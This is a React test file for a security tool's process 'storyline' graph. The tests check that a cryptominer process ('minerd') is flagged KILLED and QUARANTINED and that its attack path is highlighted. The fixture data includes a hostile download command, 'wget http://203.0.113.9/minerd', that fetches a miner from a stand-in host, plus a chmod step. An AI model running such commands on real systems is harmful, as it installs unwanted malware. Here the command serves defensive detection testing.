import { fireEvent, render, screen } from '@testing-library/react';
import { describe, expect, it, vi } from 'vitest';
import { MantineProvider } from '@mantine/core';
import { largeStoryline, referenceStoryline } from '../../test/fixtures';
import { layoutStoryline } from './layout';
import { StorylineGraph } from './StorylineGraph';

function renderGraph(view = referenceStoryline(), onSelect = vi.fn()) {
  const layout = layoutStoryline(view);
  render(
    <MantineProvider>
      <div style={{ width: 1200, height: 700 }}>
        <StorylineGraph
          layout={layout}
          selectedId={null}
          onSelect={onSelect}
          threatMarks={['KILLED', 'QUARANTINED']}
        />
      </div>
    </MantineProvider>,
  );
  return { layout, onSelect };
}

describe('storyline graph', () => {
  it('marks the threat node KILLED and QUARANTINED and emphasises its path', () => {
    renderGraph();
    const threat = screen
      .getAllByTestId('storyline-node')
      .find((n) => n.getAttribute('data-threat') === 'true');
    expect(threat).toHaveAttribute('data-name', 'minerd');
    expect(screen.getByTestId('storyline-threat-marks')).toHaveTextContent('KILLED');
    expect(screen.getByTestId('storyline-threat-marks')).toHaveTextContent('QUARANTINED');
    const onPath = screen
      .getAllByTestId('storyline-node')
      .filter((n) => n.getAttribute('data-on-path') === 'true')
      .map((n) => n.getAttribute('data-name'));
    expect(onPath.sort()).toEqual(['bash', 'minerd', 'runc']);
  });

  it('shows each process name and its shortened command line', () => {
    renderGraph();
    const wget = screen
      .getAllByTestId('storyline-node')
      .find((n) => n.getAttribute('data-name') === 'wget');
    expect(wget).toHaveTextContent('wget');
    expect(wget).toHaveTextContent('wget http://203.0.113.9/minerd');
  });

  it('selects a process on click', () => {
    const { onSelect } = renderGraph();
    const chmod = screen
      .getAllByTestId('storyline-node')
      .find((n) => n.getAttribute('data-name') === 'chmod');
    fireEvent.click(chmod!);
    expect(onSelect).toHaveBeenCalledWith('p-chmod');
  });

  it('renders a 2,000-process storyline with only the visible nodes in the DOM', () => {
    const started = performance.now();
    renderGraph(largeStoryline(2000));
    const elapsed = performance.now() - started;
    const svg = screen.getByTestId('storyline-svg');
    expect(svg).toHaveAttribute('data-node-count', '2000');
    const drawn = screen.getAllByTestId('storyline-node');
    expect(drawn.length).toBeLessThan(400);
    expect(drawn.some((n) => n.getAttribute('data-threat') === 'true')).toBe(true);
    expect(elapsed).toBeLessThan(3000);
  });
});
